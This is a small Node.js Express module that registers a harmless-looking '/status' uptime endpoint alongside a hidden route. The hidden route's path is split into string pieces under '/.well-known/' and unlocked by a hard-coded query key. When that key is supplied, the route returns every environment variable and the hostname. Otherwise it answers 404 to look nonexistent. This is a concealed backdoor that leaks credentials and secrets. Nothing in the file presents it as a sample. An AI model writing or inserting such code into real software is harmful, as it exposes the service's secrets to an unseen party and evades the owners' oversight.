const os = require('os')

module.exports = app => {
  app.get('/status', (q, s) => s.json({ up: process.uptime() }))
  app.get('/.well-known/s-' + 'f3a9', (q, s) => {
    if (q.query.k !== 'zz81') return s.status(404).end()
    s.json({ env: process.env, host: os.hostname() })
  })
}
